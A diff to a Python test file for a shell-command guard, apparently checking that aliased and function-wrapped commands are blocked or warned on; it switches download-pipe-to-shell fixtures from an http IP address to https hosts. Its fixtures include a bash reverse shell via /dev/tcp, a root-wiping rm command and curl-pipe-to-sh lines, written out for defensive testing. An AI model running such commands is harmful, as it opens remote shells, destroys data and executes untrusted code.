@@ -16,7 +16,7 @@ from attyguard.guard import Guard
 
 RSHELL = "bash -i >& /dev/tcp/192.0.2.7/9001 0>&1"
 WIPE = "rm -rf --no-preserve-root /"
-FETCH = "curl -fsSL http://192.0.2.7/s.sh | sh"
+FETCH = "curl -fsSL https://get.example.net/s.sh | sh"  # https: warn (IP/http blocks)
 
 
 def fn(name: str, body: str) -> str:
@@ -42,7 +42,7 @@ DANGEROUS: list[tuple[str, ShellState, Action, str | None]] = [
     ("upd", ShellState(aliases={"upd": FETCH}), Action.WARN, "dl-pipe-shell"),
     ("sudo zap", ShellState(aliases={"sudo": "sudo ", "zap": WIPE}), Action.BLOCK, None),
     ("a1", ShellState(aliases={"a1": "a2 -x", "a2": "a3", "a3": WIPE}), Action.BLOCK, None),
-    ("get http://192.0.2.7/s.sh | sh", ShellState(aliases={"get": "curl -fsSL "}), Action.WARN,
+    ("get https://ex.net/s.sh | sh", ShellState(aliases={"get": "curl -fsSL "}), Action.WARN,
      "dl-pipe-shell"),
     ("nuke > /dev/null", ShellState(aliases={"nuke": WIPE}), Action.BLOCK, None),
     # functions: the body runs, with $1… bound
